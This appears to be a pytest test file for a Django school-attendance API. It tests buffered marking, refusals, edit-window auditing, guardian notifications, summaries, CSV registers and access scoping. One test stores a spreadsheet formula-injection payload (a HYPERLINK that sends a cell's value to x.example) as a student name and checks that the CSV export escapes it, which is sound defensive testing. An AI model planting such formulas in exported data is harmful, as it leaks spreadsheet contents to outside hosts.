"""Attendance through the HTTP API: marking, reading (pending marks included), the buffer's
flush, every refusal, the edit window and its audit trail, guardians' notifications, Redis
down, summaries, the register, 'not taken', scoping and query counts."""

from __future__ import annotations

import csv
import datetime as dt
import io
import socket

import pytest
import time_machine
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext

from apps.academics.tests.factories import (
    AcademicYearFactory,
    EnrollmentFactory,
    SchoolClassFactory,
    SectionFactory,
)
from apps.accounts.tests.factories import StudentFactory
from apps.attendance import selectors
from apps.attendance.buffer_kinds import KIND
from apps.attendance.models import AttendanceRecord, mark_id
from apps.core import buffer
from apps.core.access import scope_queryset
from apps.core.models import AuditLog
from apps.core.testing import redis_round_trips

from ..api import serializers as attendance_serializers
from .factories import LIST, AttendanceRecordFactory, as_db, db_marks, entry, flush_here, mark

pytestmark = pytest.mark.django_db


# --- marking, read-your-writes, last write wins, flush ------------------------------------------
def test_mark_read_before_flush_last_write_wins_then_flush(cast, school_year, att, api):
    r = mark(
        api,
        cast.teacher.user,
        school_year.sec_a,
        att.day,
        [
            entry(cast.student, "late", late_minutes=10, remarks="bus"),
            entry(cast.other_student, "excused", reason="Fever"),
        ],
    )
    assert r.status_code == 200, r.content
    body = r.json()
    assert body["section"] == str(school_year.sec_a.pk) and body["period"] is None
    assert [
        (m["student_name"], m["roll_number"], m["status"], m["late_minutes"], m["reason"])
        for m in body["marks"]
    ] == [("Sam Student", 1, "late", 10, ""), ("Oscar Other", 2, "excused", 0, "Fever")]
    assert all(m["pending"] for m in body["marks"])
    assert body["marks"][0]["marked_by"] == str(cast.teacher.user.pk)
    assert body["marks"][0]["id"] == str(mark_id(cast.school.pk, cast.student.pk, att.day, None))
    assert not AttendanceRecord.objects.exists()  # buffered, not written yet

    # Read-your-writes: the register shows the marks before any flush.
    listed = api(cast.admin).get(LIST, {"section": school_year.sec_a.pk, "date": att.day}).json()
    assert listed["count"] == 2
    assert [(m["student"], m["status"], m["pending"]) for m in listed["results"]] == [
        (str(cast.student.pk), "late", True),
        (str(cast.other_student.pk), "excused", True),
    ]

    # The last write per student and day wins.
    r = mark(api, cast.admin, school_year.sec_a, att.day, [entry(cast.student, "present")])
    assert r.status_code == 200, r.content
    marks = {m["student"]: m for m in r.json()["marks"]}
    assert marks[str(cast.student.pk)]["status"] == "present"
    assert marks[str(cast.student.pk)]["late_minutes"] == 0
    assert marks[str(cast.student.pk)]["marked_by"] == str(cast.admin.pk)
    assert (
        len(
            buffer.pending(
                KIND, school_id=cast.school.pk, section_id=school_year.sec_a.pk, date=att.day
            )
        )
        == 2
    )

    assert flush_here() == 2
    assert db_marks() == as_db(r.json()["marks"])
    listed = api(cast.admin).get(LIST, {"section": school_year.sec_a.pk, "date": att.day}).json()
    assert [m["pending"] for m in listed["results"]] == [False, False]
    assert as_db(listed["results"]) == db_marks()
    assert flush_here() == 0


def test_period_marks_are_separate_from_the_daily_register(cast, school_year, att, api):
    assert (
        mark(api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student)]).status_code
        == 200
    )
    r = mark(
        api,
        cast.teacher.user,
        school_year.sec_a,
        att.day,
        [entry(cast.student, "absent")],
        period=att.p1,
    )
    assert r.status_code == 200, r.content
    assert [(m["period"], m["status"]) for m in r.json()["marks"]] == [(str(att.p1.pk), "absent")]
    r = mark(
        api,
        cast.colleague.user,
        school_year.sec_a,
        att.day,
        [entry(cast.student, "late", late_minutes=5)],
        period=att.p2,
    )
    assert r.status_code == 200, r.content
    all_marks = api(cast.admin).get(LIST, {"section": school_year.sec_a.pk, "date": att.day}).json()
    assert [(m["period"], m["status"]) for m in all_marks["results"]] == [
        (None, "present"),
        (str(att.p1.pk), "absent"),
        (str(att.p2.pk), "late"),
    ]
    daily = api(cast.admin).get(
        LIST, {"section": school_year.sec_a.pk, "date": att.day, "period": "daily"}
    )
    assert [m["status"] for m in daily.json()["results"]] == ["present"]
    one = api(cast.admin).get(
        LIST, {"section": school_year.sec_a.pk, "date": att.day, "period": att.p2.pk}
    )
    assert [m["status"] for m in one.json()["results"]] == ["late"]
    flush_here()
    assert AttendanceRecord.objects.count() == 3
    assert AttendanceRecord.objects.filter(period__isnull=True).count() == 1


# --- refusals -----------------------------------------------------------------------------------
def _holiday(cast, date):
    from apps.calendar.models import Audience, CalendarEvent, EventKind

    CalendarEvent.objects.create(
        school=cast.school,
        title="Festival",
        kind=EventKind.HOLIDAY,
        audience=Audience.SCHOOL,
        start_date=date,
        end_date=date,
    )


REFUSALS = {
    # name: (how to build the request, status, code, fields)
    "not_enrolled": (
        lambda c, y, a: dict(section=y.sec_a, date=a.day, entries=[entry(c.sibling)]),
        400,
        "invalid_entries",
        {"entries": [{"student": ["This student is not enrolled in the section."]}]},
    ),
    "duplicate": (
        lambda c, y, a: dict(
            section=y.sec_a, date=a.day, entries=[entry(c.student), entry(c.student, "absent")]
        ),
        400,
        "invalid_entries",
        {"entries": [{}, {"student": ["This student is listed more than once."]}]},
    ),
    "late_without_minutes": (
        lambda c, y, a: dict(section=y.sec_a, date=a.day, entries=[entry(c.student, "late")]),
        400,
        "invalid_entries",
        {
            "entries": [
                {"late_minutes": ["Give how many minutes late the student was (more than 0)."]}
            ]
        },
    ),
    "minutes_without_late": (
        lambda c, y, a: dict(
            section=y.sec_a, date=a.day, entries=[entry(c.student, "present", late_minutes=3)]
        ),
        400,
        "invalid_entries",
        {"entries": [{"late_minutes": ["Only a late mark has late minutes."]}]},
    ),
    "excused_without_reason": (
        lambda c, y, a: dict(section=y.sec_a, date=a.day, entries=[entry(c.student, "excused")]),
        400,
        "invalid_entries",
        {"entries": [{"reason": ["An excused absence needs a reason."]}]},
    ),
    "future": (
        lambda c, y, a: dict(
            section=y.sec_a, date=a.today + dt.timedelta(days=1), entries=[entry(c.student)]
        ),
        400,
        "future_date",
        {"date": ["Attendance cannot be taken for a future date."]},
    ),
    "outside_year": (
        lambda c, y, a: dict(
            section=y.sec_a,
            date=y.year.start_date - dt.timedelta(days=1),
            entries=[entry(c.student)],
        ),
        400,
        "outside_academic_year",
        None,
    ),
    "holiday": (
        lambda c, y, a: (
            _holiday(c, a.day),
            dict(section=y.sec_a, date=a.day, entries=[entry(c.student)]),
        )[1],
        400,
        "holiday",
        None,
    ),
    "period_of_another_section": (
        lambda c, y, a: dict(section=y.sec_b, date=a.day, period=a.p1, entries=[entry(c.sibling)]),
        400,
        "period_not_in_section",
        None,
    ),
    "period_weekday_mismatch": (
        lambda c, y, a: dict(
            section=y.sec_a,
            date=a.day - dt.timedelta(days=1),
            period=a.p1,
            entries=[entry(c.student)],
        ),
        400,
        "period_weekday_mismatch",
        None,
    ),
    "no_entries": (
        lambda c, y, a: dict(section=y.sec_a, date=a.day, entries=[]),
        400,
        "validation_error",
        None,
    ),
}


@pytest.mark.parametrize("case", sorted(REFUSALS))
def test_refusals_are_400_with_field_errors_and_write_nothing(cast, school_year, att, api, case):
    build, status, code, fields = REFUSALS[case]
    request = build(cast, school_year, att)
    r = mark(api, cast.admin, **request)
    assert r.status_code == status, r.content
    error = r.json()["error"]
    assert error["code"] == code
    assert error["message"]
    if fields is not None:
        assert error["fields"] == fields
    else:
        assert error["fields"]
        field_names = {
            "outside_academic_year": {"date"},
            "holiday": {"date"},
            "period_not_in_section": {"period"},
            "period_weekday_mismatch": {"period", "date"},
            "validation_error": {"entries"},
        }[code]
        assert set(error["fields"]) == field_names
    assert buffer.stats(KIND)[KIND]["pending"] == 0
    assert not AttendanceRecord.objects.exists()


def test_teachers_mark_only_their_own_registers(cast, school_year, att, api):
    # Tara is class teacher of 5-A, not 5-B; she teaches period 1 of 5-A, not period 2.
    r = mark(api, cast.teacher.user, school_year.sec_b, att.day, [entry(cast.sibling)])
    assert r.status_code == 403
    assert r.json()["error"]["code"] == "not_class_teacher"
    assert set(r.json()["error"]["fields"]) == {"section"}
    r = mark(
        api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student)], period=att.p2
    )
    assert r.status_code == 403
    assert r.json()["error"]["fields"].keys() == {"period"}
    # Cole teaches period 2 of 5-A but is not its class teacher.
    assert (
        mark(
            api, cast.colleague.user, school_year.sec_a, att.day, [entry(cast.student)]
        ).status_code
        == 403
    )
    assert (
        mark(
            api,
            cast.colleague.user,
            school_year.sec_a,
            att.day,
            [entry(cast.student)],
            period=att.p2,
        ).status_code
        == 200
    )
    assert (
        mark(
            api, school_year.vera.user, school_year.sec_b, att.day, [entry(cast.sibling)]
        ).status_code
        == 200
    )
    # Students and parents cannot mark at all; another school's section is not found.
    assert (
        mark(api, cast.student.user, school_year.sec_a, att.day, [entry(cast.student)]).status_code
        == 403
    )
    assert (
        mark(api, cast.parent, school_year.sec_a, att.day, [entry(cast.student)]).status_code == 403
    )
    r = mark(api, cast.admin2, school_year.sec_a, att.day, [entry(cast.student)])
    assert r.status_code == 400 and r.json()["error"]["fields"]["section"]


# --- edit window and audit ----------------------------------------------------------------------
def test_edit_window_teacher_refused_admin_allowed_and_audited(cast, school_year, att, api):
    teacher = cast.teacher.user
    # Taking a register late is allowed; changing it after the window is not (for teachers).
    r = mark(
        api,
        teacher,
        school_year.sec_a,
        att.old_day,
        [entry(cast.student), entry(cast.other_student)],
    )
    assert r.status_code == 200, r.content
    before = as_db(r.json()["marks"])
    flush_here()  # the existing mark is found in Postgres as well as in the buffer
    r = mark(api, teacher, school_year.sec_a, att.old_day, [entry(cast.student, "absent")])
    assert r.status_code == 400
    assert r.json()["error"]["code"] == "edit_window_closed"
    assert r.json()["error"]["fields"]["entries"][0]["student"]
    # Re-sending an unchanged mark is not an edit.
    assert (
        mark(api, teacher, school_year.sec_a, att.old_day, [entry(cast.student)]).status_code == 200
    )
    assert not AuditLog.objects.filter(action__startswith="attendance.").exists()

    r = mark(
        api,
        cast.admin,
        school_year.sec_a,
        att.old_day,
        [entry(cast.student, "excused", reason="Doctor's note"), entry(cast.other_student)],
    )
    assert r.status_code == 200, r.content
    log = AuditLog.objects.get(action="attendance.change_after_window")
    assert log.actor == cast.admin and log.school == cast.school
    assert log.object_type == "attendance.attendancerecord"
    assert log.object_id == str(mark_id(cast.school.pk, cast.student.pk, att.old_day, None))
    assert log.before == {"reason": "", "status": "present"}
    assert log.after == {"reason": "Doctor's note", "status": "excused"}
    flush_here()
    row = AttendanceRecord.objects.get(student=cast.student, date=att.old_day)
    assert (str(row.id), row.status, row.reason, row.marked_by) == (
        log.object_id,
        "excused",
        "Doctor's note",
        cast.admin,
    )
    other = before[(str(cast.other_student.pk), att.old_day, None)]
    assert (
        db_marks(student=cast.other_student)[(str(cast.other_student.pk), att.old_day, None)]
        == other
    )


def test_teacher_edit_within_window_is_allowed_and_audited(cast, school_year, att, api):
    teacher = cast.teacher.user
    assert mark(api, teacher, school_year.sec_a, att.day, [entry(cast.student)]).status_code == 200
    r = mark(
        api, teacher, school_year.sec_a, att.day, [entry(cast.student, "late", late_minutes=7)]
    )
    assert r.status_code == 200, r.content
    log = AuditLog.objects.get(action="attendance.change")
    assert (log.actor, log.before, log.after) == (
        teacher,
        {"late_minutes": 0, "status": "present"},
        {"late_minutes": 7, "status": "late"},
    )


# --- notifications ------------------------------------------------------------------------------
def test_absent_notifies_both_guardians_once(
    cast, school_year, att, api, django_capture_on_commit_callbacks
):
    from apps.notifications.models import Notification

    with django_capture_on_commit_callbacks(execute=True):
        r = mark(
            api,
            cast.teacher.user,
            school_year.sec_a,
            att.day,
            [entry(cast.student, "absent"), entry(cast.other_student, "present")],
        )
    assert r.status_code == 200, r.content
    notes = Notification.objects.filter(kind="attendance.absent").order_by("recipient__email")
    assert [n.recipient for n in notes] == [att.second_guardian, cast.parent]
    for n in notes:
        assert n.title == f"Sam Student was absent on {att.day.isoformat()}"
        assert "5-A" in n.body and n.data["student"] == str(cast.student.pk)
        assert n.data["date"] == att.day.isoformat() and n.data["period"] is None
    assert sorted(m.to[0] for m in mail.outbox) == ["max@alice.test", "pat@alice.test"]

    # Marked absent again, or present and then absent again: nobody is told twice.
    with django_capture_on_commit_callbacks(execute=True):
        mark(
            api,
            cast.teacher.user,
            school_year.sec_a,
            att.day,
            [entry(cast.student, "absent", remarks="x")],
        )
        mark(api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student, "present")])
        mark(api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student, "absent")])
    assert Notification.objects.filter(kind="attendance.absent").count() == 2
    assert len(mail.outbox) == 2

    # A period absence is its own event.
    with django_capture_on_commit_callbacks(execute=True):
        r = mark(
            api,
            cast.teacher.user,
            school_year.sec_a,
            att.day,
            [entry(cast.student, "absent")],
            period=att.p1,
        )
    assert r.status_code == 200
    assert Notification.objects.filter(kind="attendance.absent").count() == 4
    assert len(mail.outbox) == 4


def test_no_mail_before_commit(cast, school_year, att, api, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        mark(api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student, "absent")])
    assert callbacks and not mail.outbox


# --- Redis down ---------------------------------------------------------------------------------
def test_redis_unreachable_writes_straight_to_postgres(
    cast, school_year, att, api, settings, caplog
):
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    settings.BATCH_PROCESSOR_REDIS_URL = f"redis://127.0.0.1:{port}/0"
    buffer.reset_client()
    with caplog.at_level("WARNING", logger="schools24.buffer"):
        r = mark(
            api,
            cast.teacher.user,
            school_year.sec_a,
            att.day,
            [entry(cast.student, "late", late_minutes=4), entry(cast.other_student)],
        )
    assert r.status_code == 200, r.content
    assert any("straight to Postgres" in rec.getMessage() for rec in caplog.records)
    assert [m["pending"] for m in r.json()["marks"]] == [False, False]
    assert db_marks() == as_db(r.json()["marks"])
    listed = api(cast.admin).get(LIST, {"section": school_year.sec_a.pk, "date": att.day}).json()
    assert as_db(listed["results"]) == db_marks()


# --- summaries, register, not taken -------------------------------------------------------------
@pytest.fixture
def month_of_marks(cast, school_year, att, api):
    """Sam: present on day, absent on old_day (flushed), late on a third weekday (pending)."""
    third = att.old_day - dt.timedelta(days=7)
    assert (
        mark(
            api,
            cast.admin,
            school_year.sec_a,
            att.old_day,
            [entry(cast.student, "absent"), entry(cast.other_student)],
        ).status_code
        == 200
    )
    flush_here()
    assert (
        mark(
            api, cast.admin, school_year.sec_a, third, [entry(cast.student, "late", late_minutes=3)]
        ).status_code
        == 200
    )
    assert (
        mark(
            api,
            cast.admin,
            school_year.sec_a,
            att.day,
            [entry(cast.student), entry(cast.other_student, "excused", reason="Wedding")],
        ).status_code
        == 200
    )
    assert (
        mark(
            api,
            cast.admin,
            school_year.sec_a,
            att.day,
            [entry(cast.student, "absent")],
            period=att.p1,
        ).status_code
        == 200
    )
    return third


def test_student_summary(cast, att, api, month_of_marks):
    third = month_of_marks
    query = {"student": cast.student.pk, "from": third, "to": att.day}
    r = api(cast.parent).get("/api/v1/attendance/summary/", query)
    assert r.status_code == 200, r.content
    body = r.json()
    assert body["counts"] == {"present": 1, "absent": 1, "late": 1, "excused": 0}
    assert (body["days_marked"], body["percentage"]) == (3, 66.67)
    assert body["period_counts"] == {"present": 0, "absent": 1, "late": 0, "excused": 0}
    assert (body["from"], body["to"]) == (third.isoformat(), att.day.isoformat())
    # A student may omit themself; another child is not found.
    own = api(cast.student.user).get("/api/v1/attendance/summary/", {"from": third, "to": att.day})
    assert own.json()["counts"] == body["counts"]
    other = api(cast.parent).get("/api/v1/attendance/summary/", {"student": cast.other_student.pk})
    assert other.status_code == 404
    assert (
        api(cast.admin2)
        .get("/api/v1/attendance/summary/", {"student": cast.student.pk})
        .status_code
        == 404
    )
    bad = api(cast.admin).get(
        "/api/v1/attendance/summary/", {"student": cast.student.pk, "from": att.day, "to": third}
    )
    assert bad.status_code == 400 and set(bad.json()["error"]["fields"]) == {"from", "to"}


def test_section_day_summary(cast, school_year, att, api, month_of_marks):
    r = api(cast.teacher.user).get(
        "/api/v1/attendance/section-summary/", {"section": school_year.sec_a.pk, "date": att.day}
    )
    assert r.status_code == 200, r.content
    body = r.json()
    assert (body["enrolled"], body["marked"], body["not_marked"]) == (2, 2, 0)
    assert body["counts"] == {"present": 1, "absent": 0, "late": 0, "excused": 1}
    assert body["percentage"] == 50.0
    assert [
        (p["number"], p["subject"], p["marked"], p["counts"]["absent"]) for p in body["periods"]
    ] == [
        (1, "Mathematics", 1, 1),
        (2, "Science", 0, 0),
    ]
    assert (
        api(cast.teacher.user)
        .get(
            "/api/v1/attendance/section-summary/",
            {"section": school_year.sec_b.pk, "date": att.day},
        )
        .status_code
        == 404
    )  # Tara neither teaches 5-B nor is its class teacher
    assert (
        api(cast.parent)
        .get("/api/v1/attendance/section-summary/", {"section": school_year.sec_a.pk})
        .status_code
        == 403
    )


@pytest.fixture
def late_march():
    """Today is Saturday 28 March 2026 (before `school_year` and `att` are made): the day, old_day, the third
    marked day and the holiday of the register test all fall in March, whatever the real date."""
    with time_machine.travel(dt.datetime(2026, 3, 28, 5, 0, tzinfo=dt.UTC), tick=True):
        yield


def test_monthly_register_json_and_csv(late_march, cast, school_year, att, api, month_of_marks):
    _holiday_day = att.day - dt.timedelta(days=1)
    from apps.calendar.models import Audience, CalendarEvent, EventKind

    CalendarEvent.objects.create(
        school=cast.school,
        title="Off",
        kind=EventKind.HOLIDAY,
        audience=Audience.SECTION,
        section=school_year.sec_a,
        start_date=_holiday_day,
        end_date=_holiday_day,
    )
    month = att.day.strftime("%Y-%m")
    r = api(cast.teacher.user).get(
        "/api/v1/attendance/register/", {"section": school_year.sec_a.pk, "month": month}
    )
    assert r.status_code == 200, r.content
    body = r.json()
    assert body["section_name"] == "5-A" and body["month"] == month
    days = [dt.date.fromisoformat(d) for d in body["days"]]
    assert days[0].day == 1 and all(d.strftime("%Y-%m") == month for d in days)
    rows = {row["name"]: row for row in body["students"]}
    assert list(rows) == ["Sam Student", "Oscar Other"]
    sam = rows["Sam Student"]
    assert month == "2026-03" and len(days) == 31
    expected = {
        dt.date(2026, 3, 27): "P",  # att.day
        dt.date(2026, 3, 17): "A",  # att.old_day
        dt.date(2026, 3, 10): "L",  # month_of_marks
        dt.date(2026, 3, 26): "H",  # the section's holiday
    }
    assert (att.day, att.old_day, month_of_marks, _holiday_day) == tuple(expected)
    assert {d: c for d, c in zip(days, sam["days"], strict=True) if c} == expected
    assert rows["Oscar Other"]["days"][days.index(att.day)] == "E"

    for url, params in (
        (
            "/api/v1/attendance/register/",
            {"section": school_year.sec_a.pk, "month": month, "format": "csv"},
        ),
        ("/api/v1/attendance/register.csv", {"section": school_year.sec_a.pk, "month": month}),
    ):
        r = api(cast.admin).get(url, params)
        assert r.status_code == 200, r.content
        assert r["Content-Type"].startswith("text/csv")
        assert r["Content-Disposition"] == f'attachment; filename="attendance-5-A-{month}.csv"'
        table = list(csv.reader(io.StringIO(r.content.decode())))
        assert table[0] == ["5-A", month]
        assert table[1][:3] == ["Roll number", "Student", "01"]
        assert table[2][:2] == ["1", "Sam Student"]
        assert table[2][2 : 2 + len(days)] == sam["days"]
    assert (
        api(cast.admin2)
        .get("/api/v1/attendance/register/", {"section": school_year.sec_a.pk})
        .status_code
        == 404
    )


def test_register_csv_neutralises_formula_cells(cast, school_year, att, api):
    formula = '=HYPERLINK("https://x.example/?"&A2,"Report")'
    cast.student.user.full_name = formula
    cast.student.user.save()
    month = att.day.strftime("%Y-%m")
    r = api(cast.admin).get(
        "/api/v1/attendance/register.csv", {"section": school_year.sec_a.pk, "month": month}
    )
    assert r.status_code == 200, r.content
    table = list(csv.reader(io.StringIO(r.content.decode())))
    assert table[2][:2] == ["1", "'" + formula]
    assert table[3][:2] == ["2", "Oscar Other"]


def test_not_taken(cast, school_year, att, api):
    url = "/api/v1/attendance/not-taken/"

    def not_taken(user=cast.admin, date=att.day):
        r = api(user).get(url, {"date": date})
        assert r.status_code == 200, r.content
        return [s["name"] for s in r.json()["results"]]

    assert not_taken() == ["5-A", "5-B"]
    # A period mark is not the daily register, pending or flushed.
    period_mark = mark(
        api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student)], att.p1
    )
    assert period_mark.status_code == 200, period_mark.content
    assert not_taken() == ["5-A", "5-B"]
    assert flush_here() == 1
    assert not_taken() == ["5-A", "5-B"]

    assert (
        mark(api, cast.admin, school_year.sec_a, att.day, [entry(cast.student)]).status_code == 200
    )
    r = api(cast.admin).get(url, {"date": att.day})  # a pending daily mark counts
    assert [(s["name"], s["class_teacher_name"]) for s in r.json()["results"]] == [
        ("5-B", "Vera Teacher")
    ]
    mark(api, school_year.vera.user, school_year.sec_b, att.day, [entry(cast.sibling)])
    flush_here()
    assert not_taken() == []
    # Teachers see their own sections only; a holiday is no school day.
    assert [
        s["name"] for s in api(cast.teacher.user).get(url, {"date": att.old_day}).json()["results"]
    ] == ["5-A"]
    _holiday(cast, att.old_day)
    assert api(cast.admin).get(url, {"date": att.old_day}).json()["results"] == []
    assert api(cast.parent).get(url).status_code == 403


# --- scoping ------------------------------------------------------------------------------------
def test_reads_are_scoped(cast, school_year, att, api):
    mark(
        api,
        cast.admin,
        school_year.sec_a,
        att.day,
        [entry(cast.student, "absent"), entry(cast.other_student)],
    )
    mark(api, cast.admin, school_year.sec_b, att.day, [entry(cast.sibling, "late", late_minutes=2)])
    day = {"date": att.day}

    def students(user, **params):
        r = api(user).get(LIST, params)
        return r.status_code, [m["student_name"] for m in r.json().get("results", [])]

    assert students(cast.parent, section=school_year.sec_a.pk, **day) == (200, ["Sam Student"])
    assert students(cast.parent, section=school_year.sec_b.pk, **day) == (200, ["Sia Student"])
    assert students(cast.parent, student=cast.sibling.pk, **day) == (200, ["Sia Student"])
    assert students(cast.parent, student=cast.other_student.pk)[0] == 404
    assert students(cast.student.user, **day) == (200, ["Sam Student"])
    assert students(cast.student.user, section=school_year.sec_a.pk, **day) == (
        200,
        ["Sam Student"],
    )
    assert students(cast.student.user, section=school_year.sec_b.pk, **day)[0] == 404
    assert students(cast.teacher.user, section=school_year.sec_a.pk, **day) == (
        200,
        ["Sam Student", "Oscar Other"],
    )
    assert students(cast.teacher.user, section=school_year.sec_b.pk, **day)[0] == 404
    assert students(cast.admin2, section=school_year.sec_a.pk, **day)[0] == 404
    assert students(cast.admin2, student=cast.student.pk)[0] == 404
    assert students(cast.accountant.user, section=school_year.sec_a.pk, **day)[0] == 403
    r = api(cast.admin).get(LIST, {"section": school_year.sec_a.pk})
    assert r.status_code == 400 and "date" in r.json()["error"]["fields"]


def test_a_teacher_reads_only_the_marks_of_sections_they_teach(cast, school_year, att, api):
    """Sam moved: last year in 4-B (Vera), earlier this year marked in 5-B (Vera), now in 5-A
    (Tara). Tara teaches Sam now but reads only the 5-A marks."""
    last_year = AcademicYearFactory(
        school=cast.school,
        name="Last",
        start_date=att.today - dt.timedelta(days=485),
        end_date=att.today - dt.timedelta(days=121),
    )
    class4 = SchoolClassFactory(school=cast.school, name="Class 4", order=4)
    old_section = SectionFactory(
        school_class=class4, year=last_year, name="B", class_teacher=school_year.vera
    )
    EnrollmentFactory(section=old_section, student=cast.student, roll_number=7)
    last_year_day = att.today - dt.timedelta(days=150)
    for section, day in ((old_section, last_year_day), (school_year.sec_b, att.old_day)):
        AttendanceRecordFactory(
            student=cast.student,
            section=section,
            date=day,
            status="absent",
            marked_by=school_year.vera.user,
        )
    assert (
        mark(api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student)]).status_code
        == 200
    )
    span = {"student": cast.student.pk, "from": last_year_day, "to": att.today}

    def read(user, url=LIST, **params):
        r = api(user).get(url, {**span, **params})
        assert r.status_code == 200, r.content
        return r.json()

    seen = read(cast.teacher.user)["results"]
    assert [(m["date"], m["section"], m["status"]) for m in seen] == [
        (att.day.isoformat(), str(school_year.sec_a.pk), "present")
    ]
    assert read(cast.teacher.user, section=school_year.sec_b.pk)["results"] == []
    assert read(cast.teacher.user, section=old_section.pk)["results"] == []
    summary = read(cast.teacher.user, "/api/v1/attendance/summary/")
    assert summary["days_marked"] == 1 and summary["counts"]["absent"] == 0
    # The school admin, Sam and Sam's parent read all three.
    for user in (cast.admin, cast.student.user, cast.parent):
        assert len(read(user)["results"]) == 3
        assert read(user, "/api/v1/attendance/summary/")["counts"]["absent"] == 2
    # The admin site's scope follows the same rule.
    flush_here()
    assert set(
        scope_queryset(AttendanceRecord.objects.all(), cast.teacher.user).values_list(
            "section_id", flat=True
        )
    ) == {school_year.sec_a.pk}


# --- query counts -------------------------------------------------------------------------------
def _count_queries(fn) -> int:
    with CaptureQueriesContext(connection) as ctx:
        fn()
    return len(ctx.captured_queries)


def test_list_and_register_keep_a_constant_number_of_queries(cast, school_year, att, api):
    month = att.day.strftime("%Y-%m")
    client = api(cast.admin)
    list_params = {"section": school_year.sec_a.pk, "date": att.day}
    register_params = {"section": school_year.sec_a.pk, "month": month}

    def add_students(n, roll):
        students = [StudentFactory(school=cast.school) for _ in range(n)]
        for i, s in enumerate(students):
            EnrollmentFactory(section=school_year.sec_a, student=s, roll_number=roll + i)
        return students

    first = add_students(3, 10)
    mark(api, cast.admin, school_year.sec_a, att.day, [entry(s) for s in first[:2]])
    flush_here()
    mark(api, cast.admin, school_year.sec_a, att.day, [entry(first[2], "absent")])
    small_list = _count_queries(lambda: client.get(LIST, list_params))
    small_register = _count_queries(
        lambda: client.get("/api/v1/attendance/register/", register_params)
    )

    more = add_students(12, 20)
    mark(api, cast.admin, school_year.sec_a, att.day, [entry(s) for s in more[:6]])
    flush_here()
    mark(
        api,
        cast.admin,
        school_year.sec_a,
        att.day,
        [entry(s, "late", late_minutes=1) for s in more[6:]],
    )
    mark(api, cast.admin, school_year.sec_a, att.old_day, [entry(s) for s in more])
    r = client.get(LIST, list_params)
    assert r.json()["count"] == 15
    assert _count_queries(lambda: client.get(LIST, list_params)) == small_list
    assert (
        _count_queries(lambda: client.get("/api/v1/attendance/register/", register_params))
        == small_register
    )
    # The section, its marks, the names and rolls (the user is cached; a short page: no count).
    assert small_list == 3 and small_register <= 6


def test_a_registers_rows_are_what_the_mark_serializer_makes(cast, school_year, att, api):
    """The list builds its rows directly (`mark_rows`); they must equal the documented
    serializer's output, for flushed and pending marks, daily and period marks alike."""
    students = [StudentFactory(school=cast.school) for _ in range(3)]
    for roll, student in enumerate(students, start=30):
        EnrollmentFactory(section=school_year.sec_a, student=student, roll_number=roll)
    outsider = StudentFactory(school=cast.school)  # no enrollment here: no roll number
    mark(api, cast.admin, school_year.sec_a, att.day, [entry(students[0], "absent")])
    flush_here()
    mark(
        api,
        cast.admin,
        school_year.sec_a,
        att.day,
        [
            entry(students[1], "late", late_minutes=7),
            entry(students[2], "excused", reason="Fever"),
        ],
    )
    body = api(cast.admin).get(LIST, {"section": school_year.sec_a.pk, "date": att.day}).json()
    marks = selectors.describe(
        selectors.section_day(school_year.sec_a, att.day, selectors.ALL_PERIODS)
    )
    assert {m["pending"] for m in marks} == {True, False}
    assert body["results"] == attendance_serializers.MarkSerializer(marks, many=True).data
    orphan = {**marks[0], "student_id": str(outsider.pk), "roll_number": None}
    orphan.update(period_id=None, period_number=None, marked_by_id=None)
    assert (
        attendance_serializers.mark_rows([orphan])
        == attendance_serializers.MarkSerializer([orphan], many=True).data
    )


def test_a_register_read_costs_three_queries_and_few_redis_round_trips(cast, school_year, att, api):
    mark(
        api,
        cast.admin,
        school_year.sec_a,
        att.day,
        [entry(cast.student), entry(cast.other_student)],
    )
    client = api(cast.teacher.user)
    params = {"section": school_year.sec_a.pk, "date": att.day}
    assert client.get(LIST, params).json()["count"] == 2  # and caches the principal
    with redis_round_trips() as trips, CaptureQueriesContext(connection) as queries:
        assert client.get(LIST, params).status_code == 200
    assert len(queries) == 3
    # The principal with the throttle (one pipeline), and the write buffer's pending marks.
    assert trips[:1] == [b"MGET"] and len(trips) <= 3


def test_a_mark_reads_the_register_once_and_answers_what_a_read_answers(
    cast, school_year, att, api
):
    """The answer of a mark is the register before it with the new marks laid over (no second
    read), so it must equal a read right after, flushed and pending marks alike; and a mark
    costs the same queries for 3 students as for 15."""
    section = school_year.sec_a

    def add_students(n, roll):
        students = [StudentFactory(school=cast.school) for _ in range(n)]
        for i, s in enumerate(students):
            EnrollmentFactory(section=section, student=s, roll_number=roll + i)
        return students

    def marked(entries):
        with CaptureQueriesContext(connection) as ctx:
            r = mark(api, cast.admin, section, att.day, entries)
        assert r.status_code == 200, r.content
        register_reads = [
            q for q in ctx.captured_queries if 'FROM "attendance_attendancerecord"' in q["sql"]
        ]
        assert len(register_reads) == 1
        return r.json()["marks"], len(ctx.captured_queries)

    few = add_students(3, 10)
    marked([entry(s) for s in few])  # also caches the admin's principal
    flush_here()  # these marks flushed, the next ones pending
    _, small = marked([entry(few[0], "late", late_minutes=4)])  # one change: one audit row
    more = add_students(12, 20)
    answer, large = marked([entry(few[1], "excused", reason="Fever")] + [entry(s) for s in more])
    assert large == small
    read = api(cast.admin).get(LIST, {"section": section.pk, "date": att.day, "page_size": 50})
    assert answer == read.json()["results"]
    assert len(answer) == 15 and {m["pending"] for m in answer} == {True, False}
    assert [m["roll_number"] for m in answer] == sorted(m["roll_number"] for m in answer)
    assert [m["status"] for m in answer[:2]] == ["late", "excused"] and answer[0]["student_name"]


def test_school_today_uses_the_school_timezone(cast):
    cast.school.timezone = "Pacific/Kiritimati"  # UTC+14: often already tomorrow
    kiritimati = selectors.school_today(cast.school)
    cast.school.timezone = "Pacific/Pago_Pago"  # UTC-11
    assert (kiritimati - selectors.school_today(cast.school)).days in (1, 2)


def test_a_register_read_through_prepared_statements_answers_the_same(
    cast, school_year, att, api, settings
):
    """The register's compiled reads (its scoped lookup, its marks, its students' names) sent
    as prepared statements, as production sends them, answer what they answer sent as SQL;
    another teacher's section stays a 404."""
